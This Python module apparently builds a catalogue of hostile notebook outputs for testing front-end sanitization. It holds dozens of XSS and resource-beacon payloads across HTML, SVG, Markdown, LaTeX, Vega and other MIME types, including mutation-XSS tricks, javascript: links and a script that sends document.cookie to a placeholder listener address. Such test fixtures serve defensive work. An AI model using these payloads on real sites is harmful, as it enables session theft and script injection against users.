"""Hostile outputs of every kind that front ends show: each tries to run a script, to load something, or to be clicked."""

# ruff: noqa: E501 - an attack reads best in one piece

from __future__ import annotations

import base64
from typing import Any

# In each text, SINK is the address of a server that is listened to and NAME the attack's name. What runs says so.
_RUN = "window.ran='NAME';fetch('SINKNAME?'+document.cookie,{mode:'no-cors'})"
_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="30" height="30">{}</svg>'
)

_HTML = {
    "script": f"<script>{_RUN}</script>",
    "script-module": f"<script type=module>{_RUN}</script>",
    "script-source": "<script src=SINKNAME></script>",
    "script-split": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "handler": f'<img src=x onerror="{_RUN}">',
    "handler-slash": f'<img/src=x/onerror="{_RUN}">',
    "handler-toggle": f'<details open ontoggle="{_RUN}"><summary>x</summary></details>',
    "handler-animation": f'<style>@keyframes a{{}}</style><b style="animation:a 1s" onanimationstart="{_RUN}">x</b>',
    "handler-click": f'<button onclick="{_RUN}">press</button>',
    "handler-hover": f'<p onmouseover="{_RUN}">point here</p>',
    "handler-focus": f'<input autofocus onfocus="{_RUN}">',
    "handler-video": f'<video><source onerror="{_RUN}"></video>',
    "link-javascript": f'<a href="javascript:{_RUN}">press</a>',
    "link-javascript-tab": f'<a href="java&#9;script:{_RUN}">press</a>',
    "link-data": "<a href=\"data:text/html,<script>fetch('SINKNAME')</script>\">press</a>",
    "link-ping": '<a href="#x" ping="SINKNAME">press</a>',
    "link-base": '<base href="SINK"><img src="NAME">',
    "image": '<img src="SINKNAME">',
    "image-set": '<img srcset="SINKNAME 1x">',
    "image-picture": '<picture><source srcset="SINKNAME"><img></picture>',
    "image-lazy": '<img loading=eager src="//SINKHOST/NAME">',
    "image-input": '<input type=image src="SINKNAME">',
    "background": '<table background="SINKNAME"><tr><td>x</table>',
    "video": '<video src="SINKNAME" autoplay></video><video poster="SINKNAME"></video>',
    "audio": '<audio src="SINKNAME" autoplay></audio>',
    "track": '<video src="data:video/mp4;base64,AAAA"><track default src="SINKNAME"></video>',
    "style-attribute": '<p style="background:url(SINKNAME)">x</p>',
    "style-escaped": '<p style="background:\\75\\72\\6c(SINKNAME)">x</p>',
    "style-image-set": "<p style=\"background:-webkit-image-set('SINKNAME' 1x)\">x</p>",
    "style-cursor": '<p style="cursor:url(SINKNAME),auto">point here</p>',
    "style-import": "<style>@import 'SINKNAME';</style>",
    "style-font": "<style>@font-face{font-family:x;src:url(SINKNAME)}p.f{font-family:x}</style><p class=f>x</p>",
    "style-content": "<style>p.g::after{content:url(SINKNAME)}</style><p class=g>x</p>",
    "style-variable": "<style>p.h{--x:url(SINKNAME);background:var(--x)}</style><p class=h>x</p>",
    "link-stylesheet": '<link rel=stylesheet href="SINKNAME">',
    "link-prefetch": '<link rel=prefetch href="SINKNAME"><link rel=preload as=image href="SINKNAME"><link rel=icon href="SINKNAME">',
    "refresh": '<meta http-equiv=refresh content="0;url=SINKNAME">',
    "form": '<form action="SINKNAME"><input type=submit></form>',
    "form-outside": '<form id=f action="SINKNAME"></form><button form=f>press</button>',
    "frame": '<iframe src="SINKNAME"></iframe>',
    "frame-text": f'<iframe srcdoc="<script>parent.{_RUN[7:]}</script>"></iframe>',
    "object": '<object data="SINKNAME"></object><embed src="SINKNAME">',
    "command": "<button data-commandlinker-command=\"filebrowser:create-new-file\" data-commandlinker-args='{}'>press</button>",
    "mutation-noscript": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    "mutation-style": f'<svg></p><style><a id="</style><img src=x onerror={_RUN}>">',
    "mutation-math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={_RUN}&gt;">',
    "mutation-comment": f"<!--><img src=x onerror={_RUN}>-->",
    "template": f"<div><template shadowrootmode=open><img src=x onerror={_RUN}></template></div>",
    "over-everything": f'<a href="javascript:{_RUN}" style="position:fixed;inset:0;z-index:99999">x</a>',
    "svg-inside": f'<svg onload="{_RUN}"><image href="SINKNAME"/><use href="SINKNAME#x"/></svg>',
    "tex-cut-by-tags": r"$\<wbr>href{javascript:RUN}{press}$ \<wbr>(\hr<wbr>ef{javascript:RUN}{press}\<wbr>)".replace(
        "RUN", _RUN
    ),
    "math-link": f'<math><mtext xlink:href="javascript:{_RUN}" href="javascript:{_RUN}">press</mtext></math>',
}
_DRAWINGS = {
    "svg-script": f"<script>{_RUN}</script>",
    "svg-handler": f'<rect width="30" height="30" onclick="{_RUN}" onmouseover="{_RUN}"/><animate onbegin="{_RUN}" attributeName="x" dur="1s"/>',
    "svg-image": '<image href="SINKNAME" xlink:href="SINKNAME" width="30" height="30"/>',
    "svg-use": '<use href="SINKNAME#x"/>',
    "svg-filter": '<filter id="f"><feImage href="SINKNAME"/></filter><rect width="30" height="30" filter="url(#f)"/>',
    "svg-style": "<style>@import 'SINKNAME'; rect{fill:url(SINKNAME#x)}</style><rect width='30' height='30'/>",
    "svg-link": f'<a href="javascript:{_RUN}"><rect width="30" height="30"/></a>',
    "svg-link-set": f'<a id="a"><set attributeName="href" to="javascript:{_RUN}"/><rect width="30" height="30"/></a>',
    "svg-foreign": f'<foreignObject width="30" height="30"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;img src=SINKNAME&gt;"/><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="{_RUN}"/></foreignObject>',
}
_MARKDOWN = {
    "markdown-image": "![x](SINKNAME)",
    "markdown-reference": "![x][y]\n\n[y]: SINKNAME",
    "markdown-html": f'<img src="SINKNAME"><img src=x onerror="{_RUN}">',
    "markdown-link": f"[press](javascript:{_RUN})",
    "markdown-mermaid": '```mermaid\ngraph TD\nA["<img src=SINKNAME>"]-->B\nclick A "javascript:window.ran=1"\n```',
    "markdown-command": '<a data-commandlinker-command="filebrowser:create-new-file" data-commandlinker-args="{}">press</a>',
}
_LATEX = {
    "latex-link": r"$\href{javascript:RUN}{press}$".replace("RUN", _RUN),
    "latex-style": r"$\style{background:url(SINKNAME)}{x}$",
    "latex-html": f"$x$<img src=SINKNAME><img src=x onerror={_RUN}>",
}
_OTHER: dict[str, dict[str, Any]] = {
    "javascript": {"application/javascript": _RUN, "text/plain": "x"},
    "javascript-text": {"text/javascript": _RUN},
    "png-is-html": {"image/png": base64.b64encode(b"<script>1</script>").decode()},
    "png-breaks-out": {"image/png": f'x" onerror="{_RUN}'},
    "gif-is-address": {"image/gif": "SINKNAME"},
    "pdf-script": {"application/pdf": base64.b64encode(b"%PDF-1.4 /OpenAction << /S /JavaScript >>").decode()},
    "vega": {
        "application/vnd.vega.v5+json": {
            "$schema": "https://vega.github.io/schema/vega/v5.json",
            "data": [{"name": "t", "url": "SINKNAME"}],
            "marks": [{"type": "image", "encode": {"enter": {"url": {"value": "SINKNAME"}}}}],
        },
        "text/plain": "x",
    },
    "vegalite": {
        "application/vnd.vegalite.v5+json": {
            "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
            "data": {"url": "SINKNAME"},
            "mark": "bar",
            "encoding": {},
        },
        "text/plain": "x",
    },
    "mermaid": {"text/vnd.mermaid": 'graph TD\nA["<img src=SINKNAME>"]-->B'},
    "geojson": {"application/geo+json": {"type": "FeatureCollection", "features": []}},
    "widget": {"application/vnd.jupyter.widget-view+json": {"version_major": 2, "version_minor": 0, "model_id": "x"}},
    "json": {"application/json": {f"<img src=SINKNAME onerror={_RUN}>": "SINKNAME"}},
    "plain": {"text/plain": f"<img src=SINKNAME onerror={_RUN}> javascript:{_RUN}"},
    "latex-and-html": {"text/latex": "$x$", "text/html": f"<img src=x onerror={_RUN}>"},
}


def bundles(sink: str) -> dict[str, dict[str, Any]]:
    """By name, the data of each output; ``sink`` is an address that ends in a slash."""
    found = {name: {"text/html": f"<p>{name}</p>{text}"} for name, text in _HTML.items()}
    found |= {name: {"image/svg+xml": _SVG.format(text)} for name, text in _DRAWINGS.items()}
    found |= {name: {"text/markdown": text} for name, text in _MARKDOWN.items()}
    found |= {name: {"text/latex": text} for name, text in _LATEX.items()}
    found |= _OTHER
    return {name: _aimed(data, sink, name) for name, data in found.items()}


def _aimed(value: Any, sink: str, name: str) -> Any:
    if isinstance(value, str):
        return value.replace("SINKHOST", sink.split("/")[2]).replace("SINK", sink).replace("NAME", name)
    if isinstance(value, dict):
        return {_aimed(key, sink, name): _aimed(item, sink, name) for key, item in value.items()}
    return [_aimed(item, sink, name) for item in value] if isinstance(value, list) else value
